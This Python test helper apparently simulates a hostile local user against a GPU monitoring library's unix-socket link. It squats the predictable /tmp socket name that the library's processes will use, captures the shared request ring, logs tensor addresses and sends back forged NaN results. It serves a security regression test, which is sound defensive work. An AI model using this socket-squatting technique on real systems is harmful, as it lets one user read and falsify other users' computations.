#!/usr/bin/python3
"""Another local user against the GPU link (tests/integration/test_security_gpu.py), run as
that user (uid 65534).

  gpu_attacker.py keep LOG NAME       keep the planted listeners (handed over on the abstract
                                      unix socket NAME) and serve whoever connects to them
  gpu_attacker.py plant NAME [DIR]    bind DIR/.nanwatch-cupti-<own pid>.sock (DIR: /tmp),
                                      the name the library used to listen at, hand the
                                      listener to the keeper and exit

A planter is short-lived: its pid is free again as soon as it exits, and the next process to get
that number (a trainer) finds the name taken while the keeper still listens on it. What a
daemon that connects is served, as a library would serve it: HELLO taken with the request
ring's descriptor (written to the log: whether the ring maps writable, the requests read from
it, tensor addresses included), READY, then a forged NaN result for every output request read.
Every step is a JSON line in LOG.
"""
import json
import mmap
import os
import socket
import struct
import sys
import threading
import time

SLOTS, REQ_SIZE = 4096, 256
RING_BYTES = (SLOTS + 1) * REQ_SIZE
MSG_HELLO, MSG_READY, MSG_RESULT = 1, 2, 3
REQ = struct.Struct("<QQQQIIBbBBIQQ")  # struct nw_gpu_req's first 64 bytes
RESULT = struct.Struct("<QQQQQQQII")
SO_PEERCRED = 17


class Log:
    def __init__(self, path):
        self.f = open(path, "a")
        self.lock = threading.Lock()

    def __call__(self, **obj):
        with self.lock:
            self.f.write(json.dumps(obj) + "\n")
            self.f.flush()


def msg(kind, body):
    return struct.pack("<II", kind, len(body)) + body


def peer_of(conn):
    pid, uid, gid = struct.unpack("3i", conn.getsockopt(socket.SOL_SOCKET, SO_PEERCRED, 12))
    return {"pid": pid, "uid": uid}


def serve(conn, path, log):
    """A daemon connected to a planted socket: take what it hands over, answer with lies."""
    log(accepted=path, peer=peer_of(conn))
    data, fds, _, _ = socket.recv_fds(conn, 4096, 4)
    if not fds:
        log(hello=None, path=path)
        return
    try:
        mmap.mmap(fds[0], RING_BYTES, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
        writable = True
    except OSError:
        writable = False
    ring = mmap.mmap(fds[0], RING_BYTES, mmap.MAP_SHARED, mmap.PROT_READ)
    log(hello=len(data), path=path, ring_writable=writable)
    conn.send(msg(MSG_READY, struct.pack("<IIIIiI", 1, 1, 1 | 4 | 8, 1, 13000, 0)))
    conn.setblocking(False)
    pos, forged = 0, 0
    while True:
        try:
            if conn.recv(16) == b"":
                return
        except BlockingIOError:
            pass
        except OSError:
            return
        head = struct.unpack_from("<Q", ring, 0)[0]
        stolen, results = [], []
        while pos < head:
            raw = ring[(1 + pos % SLOTS) * REQ_SIZE:(2 + pos % SLOTS) * REQ_SIZE]
            seq, data_ptr, numel, _, tid, _, role = REQ.unpack_from(raw)[:7]
            if seq != pos + 1:
                break
            pos += 1
            stolen.append({"seq": seq, "data": data_ptr, "numel": numel, "tid": tid})
            if role == 0 and forged < 63:
                forged += 1
                results.append(RESULT.pack(seq, numel, numel, 0, 0, (1 << 64) - 1, 0, 1, 0))
        if stolen:
            log(stolen=stolen[:4], count=len(stolen))
        if results:
            try:
                conn.send(msg(MSG_RESULT, b"".join(results)))
            except OSError:
                return
            log(forged=len(results))
        time.sleep(0.01)


def keep(log_path, name):
    log = Log(log_path)
    rv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    rv.bind("\0" + name)
    rv.listen(8)
    print("KEEPING %d" % os.getpid(), flush=True)
    held = []
    while True:
        c, _ = rv.accept()
        data, fds, _, _ = socket.recv_fds(c, 4096, 1)
        path = data.decode()
        held.append(socket.socket(fileno=fds[0]))
        log(planted=path, by=peer_of(c)["pid"])
        c.send(b"ok")
        c.close()
        threading.Thread(target=accept_loop, args=(held[-1], path, log), daemon=True).start()


def accept_loop(listener, path, log):
    while True:
        conn, _ = listener.accept()
        try:
            serve(conn, path, log)
        except OSError as e:
            log(error=str(e), path=path)
        conn.close()


def plant(name, where):
    path = os.path.join(where, ".nanwatch-cupti-%d.sock" % os.getpid())
    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    s.bind(path)
    s.listen(4)
    c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    c.connect("\0" + name)
    socket.send_fds(c, [path.encode()], [s.fileno()])
    if c.recv(2) != b"ok":
        sys.exit("the keeper did not take the listener")
    print("PLANTED %s" % path, flush=True)


if __name__ == "__main__":
    if sys.argv[1] == "keep":
        keep(sys.argv[2], sys.argv[3])
    elif sys.argv[1] == "plant":
        plant(sys.argv[2], sys.argv[3] if len(sys.argv) > 3 else "/tmp")
    else:
        sys.exit(__doc__)
